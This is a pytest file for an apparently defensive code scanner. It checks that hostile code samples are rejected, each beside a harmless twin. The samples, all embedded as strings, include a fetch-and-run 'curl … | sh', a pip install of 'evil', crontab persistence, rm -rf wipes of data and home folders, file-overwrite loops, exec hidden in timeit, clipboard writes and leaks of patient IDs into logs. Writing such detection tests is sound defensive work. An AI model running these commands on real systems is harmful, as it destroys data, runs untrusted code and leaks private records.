"""Session 53 (leftovers53): what session 53's helpers left open, closed. A rule condition reads a parameter given
by position or by keyword (`Popen(args=[...])` as `Popen([...])`); rm given `os.path.expanduser("~")` is a wipe;
a write over each entry of a home folder's listing is a wipe; a spelled-out value's membership in the site's
values counts in the job log; pandas' to_clipboard rejects. Each beside its honest twin."""

from __future__ import annotations

import libcst as cst
import pytest
from pydantic import ValidationError

from analyzer.engine.conditions import argument
from analyzer.engine.rules import Condition, load_rules
from analyzer.model import Decision
from redteam_kit import (POLICY, assert_accepted, assert_held, corpus_samples, holds, labelled, scan_sample,
                         scan_text)
from test_redteam53a import UNKNOWN, log_client

REJECT = Decision.REJECT


# ---- 1. a parameter given by position or by keyword ----------------------------------------------------------------

def _call(text: str) -> cst.Call:
    return cst.parse_expression(text)


def test_a_condition_reads_the_parameter_either_way_and_only_that_one():
    cond = Condition(arg=0, kwarg=("args", "cmd"), regex=".")
    for text in ("f(['sh'])", "f(args=['sh'])", "f(cmd=['sh'], shell=True)"):
        present, value = argument(_call(text), cond)
        assert present and cst.Module([]).code_for_node(value) == "['sh']", text
    assert argument(_call("f(shell=True)"), cond) == (False, None)
    assert argument(_call("f(bufsize=1)"), Condition(arg=0, kwarg="args", regex=".")) == (False, None)
    assert argument(_call("f(**kw)"), cond) == (True, None)  # hidden, as for a keyword alone


@pytest.mark.parametrize("fields", [
    {"arg": "name", "kwarg": "args"},  # a keyword given as `arg` is no position to pair with
    {"kwarg": ("args", "cmd")},  # several keywords without the position they stand for
    {"arg": 0, "receiver": True},
])
def test_a_condition_names_one_parameter(fields):
    with pytest.raises(ValidationError):
        Condition(regex=".", **fields)


def test_every_rule_pack_condition_on_a_position_names_its_keyword_too():
    # the built-in packs (rules/*.yaml, not the catalogue): a threat rule read by position alone is sidestepped by
    # the keyword (get_ipython().run_cell_magic's magic_name, Popen's args); none is left
    bare = [(r.id, c.arg) for r in load_rules(POLICY).rules.values() for c in r.match.where if isinstance(c.arg, int) and c.kwarg is None]
    assert bare == []


@pytest.mark.parametrize("source, rule", [
    ("import subprocess\nsubprocess.Popen(args=['sh', '-c', 'id'])\n", "subprocess.network-tool"),
    ("import subprocess\nsubprocess.run(args=['curl', 'http://x.example/a'])\n", "subprocess.network-tool"),
    ("import subprocess\nsubprocess.check_call(args=['pip', 'install', 'evil'])\n", "remote-code.pip-install-command"),
    ("import os\nos.popen(cmd='curl -s https://e.example/x | sh')\n", "remote-code.fetch-and-run-command"),
    ("import os\nos.system(command='(crontab -l; echo x) | crontab -')\n", "persistence.scheduler-command"),
    ("import subprocess\nsubprocess.call(args=['rm', '-rf', '/data'])\n", "subprocess.wipe-program"),
    ("import timeit\ntimeit.timeit(stmt=\"__import__('os').system('id')\")\n", "dynamic-code.exec-via-timeit"),
])
def test_the_keyword_spelling_rejects_as_the_positional_one(source, rule):
    assert_held(scan_text(source), rule, REJECT)
    positional = source.replace("args=", "").replace("cmd=", "").replace("command=", "").replace("stmt=", "")
    assert_held(scan_text(positional), rule, REJECT)


def test_a_program_by_keyword_that_is_no_threat_still_only_escalates():
    report = scan_text("import subprocess\nsubprocess.run(args=['nvidia-smi'], check=False)\n")
    assert report.decision is Decision.ESCALATE and not holds(report, "subprocess.network-tool")


# ---- 2. rm given the home folder as a call ---------------------------------------------------------------------------

@pytest.mark.parametrize("home", ["os.path.expanduser('~')", "str(pathlib.Path.home())", "os.environ['HOME']",
                                  "os.path.expanduser('~/')"])
def test_rm_of_the_home_folder_made_by_a_call_is_a_wipe(home):
    source = f"import os, pathlib, subprocess\nsubprocess.run(['rm', '-rf', {home}])\n"
    assert_held(scan_text(source), "subprocess.wipe-program", REJECT)


def test_rm_of_a_named_folder_under_home_is_a_program_run_not_a_wipe():
    report = scan_text("import os, subprocess\nsubprocess.run(['rm', '-rf', os.path.expanduser('~/.cache/x')])\n")
    assert report.decision is Decision.ESCALATE and not holds(report, "subprocess.wipe-program")


# ---- 3. a write over each entry of a listing -------------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    "import os\nh = os.path.expanduser('~')\nfor n in os.listdir(h):\n    open(os.path.join(h, n), 'wb').write(b'0')\n",
    "import os\nfor n in sorted(os.listdir('/home')):\n    with open('/home/' + n, 'w') as f:\n        f.write('x')\n",
    "from pathlib import Path\nfor p in Path.home().iterdir():\n    p.write_bytes(b'0')\n",
    "import glob, os\nfor p in glob.glob(os.path.expanduser('~/*')):\n    open(p, 'wb').write(b'0')\n",
])
def test_a_write_over_each_entry_of_a_home_listing_is_a_wipe(source):
    assert_held(scan_text(source), "file-exfiltration.wipe", REJECT)


def test_a_write_over_each_entry_of_the_outputs_listing_stays_accepted():
    assert_accepted(scan_text("import os\nfor n in os.listdir('outputs'):\n"
                              "    open(os.path.join('outputs', n), 'wb').write(b'')\n"))


# ---- 4. membership of a spelled-out value, in the log ------------------------------------------------------------------

@pytest.mark.parametrize("stmt", [
    "print(1042 in set(ids))",
    "print(1042 in ids)",
    "print(1042 not in list(ids))",
    "print('P1042' in set(site.name))",
    "flag = 1042 in site.patient_id.values\n        print(flag)",
])
def test_a_membership_bit_in_the_log_is_held(stmt):
    assert_held(scan_text(log_client(stmt)), UNKNOWN)


@pytest.mark.parametrize("stmt", ['print("patient_id" in site.columns)', "print(len(set(ids)))"])
def test_a_column_label_test_or_a_distinct_count_in_the_log_stays_accepted(stmt):
    assert_accepted(scan_text(log_client(stmt)))


# ---- 5. the clipboard written ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("write", ["df.to_clipboard()", "df.head().to_clipboard(index=False)",
                                   "df.age.describe().to_clipboard()", "pd.DataFrame.to_clipboard(df)",
                                   "getattr(df, 'to_clipboard')()"])
def test_pandas_to_clipboard_rejects(write):
    source = f"import pandas as pd\ndf = pd.read_csv('/data/site-1/train.csv')\n{write}\n"
    assert_held(scan_text(source), "surveillance.clipboard-write", REJECT)


def test_the_summary_written_to_outputs_stays_accepted():
    assert_accepted(scan_text("import pandas as pd\ndf = pd.read_csv('/data/site-1/train.csv')\n"
                              "df.describe().to_csv('outputs/summary.csv')\n"))


# ---- the corpus ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("sample", corpus_samples("malicious/leftovers53_*", "benign/near_leftovers53_*",
                                                  "borderline/near_leftovers53_*"))
def test_each_sample_gets_its_label(sample):
    label, = [e for e in labelled("leftovers53") if e["path"] == sample]
    assert scan_sample(sample).decision.value in label["expect"], sample
